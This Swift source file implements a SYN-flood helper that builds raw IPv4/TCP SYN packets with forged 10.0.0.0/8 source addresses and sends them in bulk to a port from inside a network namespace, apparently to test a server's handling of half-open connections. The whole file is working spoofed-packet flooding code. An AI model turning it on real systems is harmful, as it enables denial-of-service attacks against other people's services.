import Foundation
import Glibc

/// Half-open connections from forged addresses.
package enum SynFlood {
    /// Sends `count` SYNs from a namespace to a port, each from another address of 10.0.0.0/8.
    package static func send(
        _ count: Int,
        in space: NetworkNamespace,
        to address: String,
        port: UInt16
    ) throws {
        try space.run {
            let kind = Int32(SOCK_RAW.rawValue) | Int32(SOCK_CLOEXEC.rawValue)
            let raw = socket(AF_INET, kind, Int32(IPPROTO_RAW))
            guard raw >= 0 else { throw CommandFailure("no raw socket: errno \(errno)") }
            defer { close(raw) }
            var target = sockaddr_in()
            target.sin_family = sa_family_t(AF_INET)
            guard unsafe inet_pton(AF_INET, address, &target.sin_addr) == 1 else {
                throw CommandFailure("no address: \(address)")
            }
            let server = unsafe withUnsafeBytes(of: target.sin_addr) { unsafe Array($0) }
            for number in 0..<count {
                let packet = segment(UInt32(0x0A00_0001 + number), server, port)
                let sent = unsafe withUnsafePointer(to: &target) { target in
                    unsafe target.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                        unsafe sendto(raw, packet, packet.count, 0, $0, 16)
                    }
                }
                guard sent == packet.count || errno == ENOBUFS else {
                    throw CommandFailure("a SYN was not sent: errno \(errno)")
                }
            }
        }
    }

    /// A SYN with its IP header; the kernel fills in the checksum of IPv4.
    private static func segment(_ source: UInt32, _ server: [UInt8], _ port: UInt16) -> [UInt8] {
        let from = bytes(source)
        var tcp: [UInt8] = [0xC0, 0, UInt8(port >> 8), UInt8(port & 0xFF), 0, 0, 0, 1, 0, 0, 0, 0]
        tcp += [5 << 4, 0x02, 0xFF, 0xFF, 0, 0, 0, 0]
        let sum = checksum(from + server + [0, 6, 0, 20] + tcp)
        (tcp[16], tcp[17]) = (UInt8(sum >> 8), UInt8(sum & 0xFF))
        return [0x45, 0, 0, 40, 0, 0, 0, 0, 64, 6, 0, 0] + from + server + tcp
    }

    private static func bytes(_ word: UInt32) -> [UInt8] {
        stride(from: 24, through: 0, by: -8).map { UInt8(truncatingIfNeeded: word >> UInt32($0)) }
    }

    private static func checksum(_ bytes: [UInt8]) -> UInt16 {
        var sum: UInt32 = 0
        for index in stride(from: 0, to: bytes.count, by: 2) {
            sum += UInt32(bytes[index]) << 8 | UInt32(bytes[index + 1])
        }
        while sum >> 16 != 0 { sum = (sum & 0xFFFF) + (sum >> 16) }
        return ~UInt16(sum)
    }
}
